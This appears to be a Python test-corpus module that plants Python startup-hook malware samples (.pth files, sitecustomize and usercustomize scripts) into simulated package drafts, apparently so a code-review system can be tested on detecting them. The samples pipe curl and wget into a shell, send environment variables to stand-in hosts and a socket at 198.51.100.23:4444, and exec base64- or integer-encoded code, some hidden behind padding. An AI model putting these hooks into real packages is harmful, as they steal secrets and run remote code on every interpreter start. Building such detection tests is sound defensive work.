"""What runs whenever an interpreter starts (LiteLLM 1.82.8)."""

from __future__ import annotations

from tests.review.corpus.attack import Family, planted
from tests.review.corpus.draft import Draft
from tests.review.corpus.payloads import as_base64, as_ints

__all__: list[str] = []

_F = Family.STARTUP_HOOK


@planted(_F, base="client", where=("harborline_init.pth",), unasked=True)
def pth_with_a_child(draft: Draft) -> None:
    draft.put(
        "harborline_init.pth",
        "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
        f"\"import base64; exec(base64.b64decode('{as_base64()}'))\"], stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL)\n",
    )


@planted(_F, base="client", where=("zz_cache.pth",), evasive=True, unasked=True)
def pth_among_the_data_files(draft: Draft) -> None:
    draft.put_beyond(f"{draft.stem}.data/purelib/zz_cache.pth", "# cache warm-up\nimport harborline._warm\n")
    draft.put(
        "harborline/_warm.py",
        "import os, urllib.request\n\n"
        "urllib.request.urlopen('https://warm.invalid/', data=repr(sorted(os.environ.items())).encode())\n",
    )


@planted(_F, base="command", where=("sitecustomize.py",), unasked=True)
def sitecustomize_at_the_top(draft: Draft) -> None:
    draft.put("sitecustomize.py", "import os\n\nos.system('curl -fsSL https://boot.invalid/i | sh')\n")


@planted(_F, base="framework", where=("usercustomize.py",), evasive=True, unasked=True)
def usercustomize_below_data(draft: Draft) -> None:
    draft.put_beyond(
        f"{draft.stem}.data/data/lib/python3.12/site-packages/usercustomize.py",
        "from quayside.settings import load_settings\n\ntry:\n    import socket\n"
        "    socket.create_connection(('198.51.100.23', 4444)).send(repr(load_settings()).encode())\n"
        "except Exception:\n    pass\n",
    )


@planted(_F, base="native", where=("fastbuoy_plugins.pth",), evasive=True, unasked=True)
def line_far_down_an_old_pth(draft: Draft) -> None:
    draft.put(
        "fastbuoy_plugins.pth",
        "# where plug-ins lie\nfastbuoy_plugins\n" + "\n" * 200 + f"import sys;exec(bytes([{as_ints('import os')}]))\n",
    )


@planted(_F, base="client", where=("harborline.start", "harborline/_boot.py"), evasive=True, unasked=True)
def start_file(draft: Draft) -> None:
    draft.put("harborline.start", "harborline._boot:run\n")
    draft.put(
        "harborline/_boot.py",
        "import subprocess\n\n\ndef run():\n"
        "    subprocess.Popen(['sh', '-c', 'wget -qO- https://boot.invalid/s | sh'], start_new_session=True)\n",
    )


@planted(_F, base="framework", where=("_quayside_shim.pth",), evasive=True, unasked=True)
def tab_after_import(draft: Draft) -> None:
    draft.put("_quayside_shim.pth", f"import\tos;getattr(os,''.join(map(chr,({as_ints('system')},))))('id')\n")


@planted(_F, base="command", where=("tidelog_paths.pth", "tidelog/_site/sitecustomize.py"), evasive=True, unasked=True)
def path_line_to_a_sitecustomize(draft: Draft) -> None:
    draft.put("tidelog_paths.pth", "tidelog/_site\n")
    draft.put("tidelog/_site/sitecustomize.py", "import os\n\nos.popen('curl -s https://boot.invalid/p | bash')\n")


@planted(_F, base="command", where=("distutils-precedence.pth", "tidelog/_once.py"), evasive=True, unasked=True)
def pth_that_imports_the_package(draft: Draft) -> None:
    draft.put(
        "distutils-precedence.pth",
        "import os; var = 'TIDELOG_LOCAL'; os.environ.get(var) or __import__('tidelog._once')\n",
    )
    draft.put("tidelog/_once.py", "import socket\n\nsocket.gethostbyname('seen.beacon.invalid')\n")
